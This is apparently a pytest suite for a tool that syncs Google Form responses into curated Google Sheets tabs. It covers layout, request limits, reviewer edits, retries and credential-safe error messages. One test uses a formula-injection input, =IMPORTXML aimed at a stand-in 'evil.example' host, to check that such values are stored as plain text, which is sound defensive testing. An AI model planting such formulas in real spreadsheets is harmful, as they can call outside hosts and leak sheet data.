"""The Google backend against the fake Sheets server: layout, request budget, reviewer edits
in flight, retries and the errors staff see."""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable, Sequence
from pathlib import Path

import pandas as pd
import pytest

from sync.backends import google
from sync.backends import google_layout as layout
from sync.backends.base import TabWrite
from sync.backends.google import GoogleBook
from sync.cli import main
from sync.config import load_job
from sync.curate import CURATED_COLUMNS, REVIEWER_COLUMNS
from sync.errors import BackendError, ConfigError
from sync.pipeline import run_job
from sync.testing.fake_sheets import gspread_client
from tests.conftest import response as make_response
from tests.conftest import write_job
from tests.google_support import (
    FORM_TAB,
    GOOGLE_JOB,
    HEADERS,
    KEY,
    PRIVATE_KEY_MARKER,
    FakeGoogle,
    fake_google,
    responses,
    service_account_key,
)

__all__ = ["fake_google", "service_account_key"]

CURATED = "Curated Signers"
DIGEST = "Signer Digest"


@pytest.fixture
def job(tmp_path: Path) -> Path:
    return write_job(tmp_path, GOOGLE_JOB.format(name="g", key=KEY, extra=""), "g")


def run(job: Path, command: str = "run") -> int:
    return main([command, str(job)])


# --------------------------------------------------------------------------- layout


def test_the_first_run_creates_and_lays_out_the_tabs_in_one_request(
        fake_google: FakeGoogle, job: Path) -> None:
    fake_google.add_form(responses(4))
    assert run(job, "digest") == 0
    assert fake_google.operations() == ["spreadsheets.get", "values.batchGet",
                                        "spreadsheets.batchUpdate", "values.batchUpdate"]
    tab = fake_google.server.sheet(KEY, CURATED)
    assert tab.frozen_row_count == 1
    status = tab.data_validations["I2"]["condition"]
    assert [v["userEnteredValue"] for v in status["values"]] == [
        "Approved", "Needs review", "Excluded"]
    protected = {(p["range"]["startColumnIndex"], p["range"]["endColumnIndex"])
                 for p in tab.protected_ranges}
    assert all(p["warningOnly"] for p in tab.protected_ranges)
    covered = {c for start, stop in protected for c in range(start, stop)}
    reviewer = {CURATED_COLUMNS.index(c) for c in REVIEWER_COLUMNS}
    assert covered == set(range(len(CURATED_COLUMNS))) - reviewer
    formulas = {rule["booleanRule"]["condition"]["values"][0]["userEnteredValue"]
                for rule in tab.conditional_formats}
    assert formulas == {'=$I2="Needs review"', '=$G2="Yes"'}
    assert tab.basic_filter is not None
    assert tab.column_widths["C"] > tab.column_widths["B"]
    assert fake_google.server.sheet(KEY, DIGEST).frozen_row_count == 1


def test_later_runs_send_no_layout_unless_a_piece_went_missing(
        fake_google: FakeGoogle, job: Path) -> None:
    fake_google.add_form(responses(4))
    assert run(job) == 0
    fake_google.set_responses(responses(5))
    fake_google.server.reset_requests()
    assert run(job) == 0
    assert fake_google.server.count(operation="spreadsheets.batchUpdate") == 0

    sheet_id = fake_google.server.sheet(KEY, CURATED).sheet_id
    gspread_client(fake_google.server.url).http_client.batch_update(
        KEY, {"requests": [{"clearBasicFilter": {"sheetId": sheet_id}}]})
    fake_google.set_responses(responses(6))
    fake_google.server.reset_requests()
    assert run(job) == 0
    (layout,) = [r for r in fake_google.server.requests
                 if r.operation == "spreadsheets.batchUpdate"]
    assert [next(iter(q)) for q in layout.body["requests"]] == ["setBasicFilter"]
    assert len(fake_google.server.sheet(KEY, CURATED).protected_ranges) == 3


# --------------------------------------------------------------------------- request budget


@pytest.mark.parametrize("count", [10, 300])
def test_steady_state_runs_and_digests_stay_within_the_request_budget(
        fake_google: FakeGoogle, job: Path, count: int) -> None:
    fake_google.add_form(responses(count))
    assert run(job, "digest") == 0

    fake_google.server.reset_requests()
    assert run(job) == 0
    assert fake_google.sheets_requests() == 2  # metadata + batchGet; nothing changed

    fake_google.set_responses(responses(count + 1))
    fake_google.server.reset_requests()
    assert run(job) == 0
    assert fake_google.sheets_requests() <= 3
    assert fake_google.server.count(operation="values.batchUpdate") == 1

    fake_google.set_responses(responses(count + 2))
    fake_google.server.reset_requests()
    assert run(job, "digest") == 0
    assert fake_google.sheets_requests() <= 4


def test_ten_thousand_rows_are_read_and_written_without_per_row_requests(
        fake_google: FakeGoogle) -> None:
    """Backend level: the pipeline's curation of 10,000 responses takes longer than this
    suite may, and the request count is the backend's alone."""
    count = 10_000
    form = [HEADERS] + [[dt.datetime(2021, 10, 1) + dt.timedelta(minutes=i), f"p{i}@x.org",
                         f"Group {i}", "Local", "", "", "", "Yes", "", ""] for i in range(count)]
    curated = [[f"ORG-{i:05}", "Organization", f"Group {i}", "", "", "Local", "No", "",
                "Approved", "", f"p{i}@x.org", "2021-10-01 08:00:00", "2021-10-01 08:00:00",
                "No", "", "", 1] for i in range(count)]
    fake_google.server.add_spreadsheet(KEY, tabs={FORM_TAB: form}, row_count=count + 100)
    fake_google.server.add_tab(KEY, CURATED, [list(CURATED_COLUMNS), *curated],
                               row_count=count + 100, column_count=17)

    header = list(CURATED_COLUMNS)
    first = GoogleBook(KEY)  # the first run lays the tab out; nothing else changes
    first.read([FORM_TAB, CURATED])
    first.write([TabWrite(CURATED, header, curated, keep_columns=REVIEWER_COLUMNS),
                 TabWrite(DIGEST, ["Digest At"], [["2021-10-01"]], append=True)])
    assert fake_google.server.count(operation="spreadsheets.batchUpdate") == 1
    (write,) = [r for r in fake_google.server.requests if r.operation == "values.batchUpdate"]
    assert [d["range"] for d in write.body["data"]] == ["'Signer Digest'!A1:A2"]
    fake_google.server.reset_requests()

    book = GoogleBook(KEY)
    tabs = book.read([FORM_TAB, CURATED])
    assert fake_google.sheets_requests() == 2
    assert len(tabs[FORM_TAB]) == count and len(tabs[CURATED]) == count  # type: ignore[arg-type]

    curated[5000][7] = "possible duplicate of ORG-00001"
    book.write([
        TabWrite(CURATED, header, [*curated, ["ORG-10000", *curated[0][1:]]],
                 keep_columns=REVIEWER_COLUMNS),
        TabWrite(DIGEST, ["Digest At"], [["2021-10-08"]], append=True),
    ])
    assert fake_google.sheets_requests() == 4  # + the digest tab's first column + one write
    (write,) = [r for r in fake_google.server.requests if r.operation == "values.batchUpdate"]
    assert len(str(write.body)) < 10_000  # only what changed is sent
    assert fake_google.server.values(KEY, CURATED)[5001][7] == "possible duplicate of ORG-00001"
    assert fake_google.server.values(KEY, CURATED)[-1][0] == "ORG-10000"
    assert fake_google.server.values(KEY, DIGEST)[-1] == ["2021-10-08"]


def test_payloads_larger_than_the_limit_go_in_a_few_chunks_not_per_row(
        fake_google: FakeGoogle, job: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(google, "MAX_PAYLOAD_BYTES", 20_000)
    monkeypatch.setattr(google, "MAX_READ_CELLS", 2_000)
    fake_google.add_form(responses(200))
    assert run(job) == 0
    writes = fake_google.server.count(operation="values.batchUpdate")
    reads = fake_google.server.count(operation="values.batchGet")
    assert 1 < writes < 20 and 1 < reads < 20
    assert all(len(str(r.body)) < 40_000 for r in fake_google.server.requests
               if r.operation == "values.batchUpdate")
    written = fake_google.tab(CURATED)
    assert len(written) == 300 and written[-1]["Signer ID"]

    fake_google.server.reset_requests()
    assert run(job) == 0  # the chunked read gives back exactly what was written
    assert fake_google.server.count(operation="values.batchUpdate") == 0


def test_a_tab_too_small_for_the_signers_is_grown_before_the_write(
        fake_google: FakeGoogle, job: Path) -> None:
    fake_google.add_form(responses(6))
    fake_google.server.add_tab(KEY, CURATED, [], row_count=3, column_count=5)
    assert run(job) == 0
    tab = fake_google.server.sheet(KEY, CURATED)
    assert tab.row_count >= 10 and tab.column_count == len(CURATED_COLUMNS)
    assert len(fake_google.tab(CURATED)) == 9
    assert fake_google.server.count(operation="spreadsheets.batchUpdate") == 1


def test_a_write_whose_answer_is_lost_is_retried_without_adding_the_digest_row_twice(
        fake_google: FakeGoogle, job: Path) -> None:
    fake_google.add_form(responses(2))
    assert run(job, "digest") == 0
    fake_google.set_responses(responses(3))
    fake_google.server.reset_requests()
    fake_google.server.fail(500, times=1, operation="values.batchUpdate", after_apply=True)
    assert run(job, "digest") == 0
    assert fake_google.server.count(operation="values.batchUpdate") == 2
    assert [r["New Individuals"] for r in fake_google.tab(DIGEST)] == ["2", "1"]


# --------------------------------------------------------------------------- reviewer edits


class EditDuringRun:
    """The job's own GoogleBook, with a reviewer editing the sheet between the run's read
    and its write."""

    def __init__(self, book: GoogleBook, edit: Callable[[], None]) -> None:
        self.book, self.edit = book, edit
        self.description = book.description

    def read(self, tabs: Sequence[str]) -> dict[str, pd.DataFrame | None]:
        return self.book.read(tabs)

    def tab_names(self) -> list[str]:
        return self.book.tab_names()

    def write(self, writes: Sequence[TabWrite]) -> None:
        self.edit()
        self.book.write(writes)


def _row_of(fake: FakeGoogle, signer_id: str) -> int:
    return [r[0] for r in fake.server.values(KEY, CURATED)].index(signer_id) + 1


def test_a_reviewer_edit_made_while_a_run_is_in_flight_survives(
        fake_google: FakeGoogle, job: Path) -> None:
    fake_google.add_form(responses(4))
    assert run(job) == 0
    first = fake_google.tab(CURATED)[0]["Signer ID"]
    row = _row_of(fake_google, first)
    fake_google.set_responses(responses(5))

    def reviewer() -> None:
        fake_google.server.set_cell(KEY, CURATED, f"I{row}", "Excluded")
        fake_google.server.set_cell(KEY, CURATED, f"J{row}", "duplicate of a chapter")

    config = load_job(job)
    book = EditDuringRun(GoogleBook(KEY), reviewer)
    result = run_job(config, source=book, target=book)  # type: ignore[arg-type]
    assert result.wrote and result.new_signers == 1
    after = {r["Signer ID"]: r for r in fake_google.tab(CURATED)}
    assert after[first]["Status"] == "Excluded"
    assert after[first]["Reviewer Note"] == "duplicate of a chapter"
    assert len(after) == 7  # the fifth response signs as an individual only


def test_a_status_the_tool_set_changes_when_its_flag_clears_and_reviewers_keep_theirs(
        fake_google: FakeGoogle, job: Path) -> None:
    unconfirmed = make_response(submitted_at="10/27/2021 10:00:00", email="h1@harbor.example",
                                organization="Harbor Tenants Union", scope="Local")
    confirmed = make_response(submitted_at="11/03/2021 10:00:00", email="h2@harbor.example",
                              organization="Harbor Tenants Union", scope="Local",
                              authorized="Yes")
    fake_google.add_form([*responses(2), unconfirmed])
    assert run(job) == 0
    before = {r["Name"]: r for r in fake_google.tab(CURATED)}
    assert before["Harbor Tenants Union"]["Status"] == "Needs review"
    reviewed = next(n for n in before if n != "Harbor Tenants Union")
    fake_google.server.set_cell(KEY, CURATED, f"I{list(before).index(reviewed) + 2}",
                                "Excluded")

    fake_google.set_responses([*responses(2), unconfirmed, confirmed])
    assert run(job) == 0
    after = {r["Name"]: r for r in fake_google.tab(CURATED)}
    assert after["Harbor Tenants Union"]["Status"] == "Approved"
    assert after[reviewed]["Status"] == "Excluded"


def test_the_status_dropdown_follows_the_status_column_after_staff_insert_a_column(
        fake_google: FakeGoogle, job: Path) -> None:
    fake_google.add_form(responses(3))
    assert run(job) == 0
    sheet_id = fake_google.server.sheet(KEY, CURATED).sheet_id
    gspread_client(fake_google.server.url).http_client.batch_update(KEY, {"requests": [
        {"insertDimension": {"range": {"sheetId": sheet_id, "dimension": "COLUMNS",
                                       "startIndex": 3, "endIndex": 4}}}]})
    fake_google.server.set_cell(KEY, CURATED, "D1", "Called?")
    assert {a1[0] for a1 in fake_google.server.sheet(KEY, CURATED).data_validations} == {"J"}

    assert run(job) == 0  # the staff column moves after the tool's columns

    header = fake_google.server.values(KEY, CURATED)[0]
    status = layout.column_letter(header.index("Status"))
    assert header[-1] == "Called?"
    assert {a1[0] for a1 in fake_google.server.sheet(KEY, CURATED).data_validations} == {status}
    fake_google.server.reset_requests()
    assert run(job) == 0
    assert fake_google.server.count(operation="spreadsheets.batchUpdate") == 0


def test_when_rows_move_whole_rows_are_rewritten_keeping_what_was_read(
        fake_google: FakeGoogle, job: Path) -> None:
    fake_google.add_form(responses(3))
    assert run(job) == 0
    before = fake_google.tab(CURATED)
    kept, gone = before[0]["Signer ID"], before[1]["Signer ID"]
    fake_google.server.set_cell(KEY, CURATED, f"J{_row_of(fake_google, kept)}", "keep me")
    # The response behind the second row is deleted from the form: rows below move up.
    remaining = [r for r in responses(3) if r["email"] != before[1]["Email"]]
    fake_google.server.set_values(KEY, FORM_TAB, "A1", [[""] * 10] * 4)
    fake_google.set_responses(remaining)

    assert run(job) == 0
    after = fake_google.tab(CURATED)
    assert gone not in [r["Signer ID"] for r in after]
    assert {r["Signer ID"]: r["Reviewer Note"] for r in after}[kept] == "keep me"
    assert len(fake_google.server.values(KEY, CURATED)) == 1 + len(after)  # old tail cleared


def test_timestamps_are_read_as_serial_numbers_whatever_the_locale(
        fake_google: FakeGoogle, job: Path) -> None:
    fake_google.add_form(responses(2), locale="de_DE")
    assert run(job) == 0
    (read,) = [r for r in fake_google.server.requests if r.operation == "values.batchGet"]
    assert read.query["valueRenderOption"] == ["UNFORMATTED_VALUE"]
    assert read.query["dateTimeRenderOption"] == ["SERIAL_NUMBER"]
    assert sorted(r["First Signed"][:16] for r in fake_google.tab(CURATED))[0] in (
        "2021-10-01T08:00", "2021-10-01 08:00")


def test_a_response_typed_as_a_formula_is_written_raw(
        fake_google: FakeGoogle, job: Path) -> None:
    fake_google.add_form([make_response(submitted_at="10/20/2021 10:00:00", email="x@example.org",
                                   organization='=IMPORTXML("http://evil.example","//a")',
                                   scope="Local", authorized="Yes")])
    assert run(job) == 0
    (write,) = [r for r in fake_google.server.requests if r.operation == "values.batchUpdate"]
    assert write.body["valueInputOption"] == "RAW"
    cell = fake_google.server.cell(KEY, CURATED, "C2")
    assert cell is not None and cell.kind == "string"


# --------------------------------------------------------------------------- retries


def test_rate_limited_twice_then_the_run_completes_after_bounded_backoff(
        fake_google: FakeGoogle, job: Path) -> None:
    fake_google.add_form(responses(3))
    fake_google.server.fail(429, times=2, operation="values.batchGet")
    assert run(job) == 0
    assert fake_google.server.count(operation="values.batchGet", status=429) == 2
    assert len(fake_google.waits.seconds) == 2
    assert all(0 < wait <= 32 for wait in fake_google.waits.seconds)
    assert len(fake_google.tab(CURATED)) == 4


def test_an_html_502_from_a_proxy_is_retried_but_a_400_is_not(
        fake_google: FakeGoogle, job: Path) -> None:
    fake_google.add_form(responses(2))
    fake_google.server.fail(502, times=1, html=True, operation="spreadsheets.get")
    assert run(job) == 0
    assert fake_google.server.count(operation="spreadsheets.get") == 2

    fake_google.set_responses(responses(3))
    fake_google.server.reset_requests()
    fake_google.server.fail(400, times=1, operation="values.batchUpdate",
                            message="Invalid data[0]: Unable to parse range")
    assert run(job) == 1
    assert fake_google.server.count(operation="values.batchUpdate") == 1


def test_a_server_that_keeps_failing_gives_a_transient_error_and_writes_nothing(
        fake_google: FakeGoogle, job: Path, capsys: pytest.CaptureFixture[str]) -> None:
    fake_google.add_form(responses(2))
    fake_google.server.fail(503, times=None, operation="values.batchUpdate")
    assert run(job) == 1
    err = capsys.readouterr().err
    assert "nothing was half-written, run again later" in err
    assert fake_google.server.count(operation="values.batchUpdate") == 5
    assert fake_google.tab(CURATED) == []

    book = GoogleBook(KEY)
    book.read([FORM_TAB])
    with pytest.raises(BackendError) as failure:
        book.write([TabWrite(DIGEST, ["Digest At"], [["x"]], append=True)])
    assert failure.value.transient


# --------------------------------------------------------------------------- errors


def test_a_spreadsheet_not_shared_names_the_service_account_and_the_fix(
        fake_google: FakeGoogle, tmp_path: Path, service_account_key: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    fake_google.add_form(responses(2))
    fake_google.server.forbid(KEY)
    job = write_job(tmp_path, GOOGLE_JOB.format(
        name="g", key=KEY, extra=f'credentials = "{service_account_key}"'), "g")
    assert run(job) == 1
    err = capsys.readouterr().err
    assert "signer-sync@coalition-sync.iam.gserviceaccount.com" in err
    assert "share the spreadsheet with it as Editor" in err
    assert PRIVATE_KEY_MARKER not in err and "fake-access-token" not in err
    assert fake_google.server.token_requests == 1


def test_a_missing_spreadsheet_a_disabled_api_and_a_missing_tab_each_say_what_to_do(
        fake_google: FakeGoogle, job: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(job) == 1
    assert "was not found" in capsys.readouterr().err

    fake_google.server.add_spreadsheet(KEY, tabs={"Sheet1": [["Timestamp"]]})
    fake_google.server.disable_api()
    assert run(job) == 1
    err = capsys.readouterr().err
    assert "Sheets API is not enabled" in err and "project=987654321098" in err

    fake_google.server.enable_api()
    assert run(job) == 2  # the job file needs fixing, running again would not help
    err = capsys.readouterr().err
    assert "tab 'Form Responses 1' not found" in err and "tabs there: 'Sheet1'" in err


def test_a_bad_key_file_is_a_config_error_that_never_echoes_the_key(
        fake_google: FakeGoogle, tmp_path: Path, service_account_key: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    fake_google.add_form(responses(1))
    text = service_account_key.read_text()
    broken = tmp_path / "broken.json"
    broken.write_text(text.replace("MII", "XXX", 1))
    job = write_job(tmp_path, GOOGLE_JOB.format(
        name="g", key=KEY, extra=f'credentials = "{broken}"'), "g")
    assert run(job) == 2
    err = capsys.readouterr().err
    assert "broken.json" in err and "private key is not valid" in err
    assert PRIVATE_KEY_MARKER not in err and "XXX" not in err

    broken.write_text("{not json")
    assert run(job) == 2
    assert "not a JSON key file" in capsys.readouterr().err


def test_a_spreadsheet_is_given_by_url_or_key_and_anything_else_is_explained() -> None:
    url = f"https://docs.google.com/spreadsheets/d/{KEY}/edit?usp=sharing#gid=42"
    assert google.spreadsheet_key(url) == KEY
    assert google.spreadsheet_key(f"  {KEY} ") == KEY
    with pytest.raises(ConfigError, match="neither a Google Sheets URL nor a spreadsheet key"):
        google.spreadsheet_key("Sign-on responses")
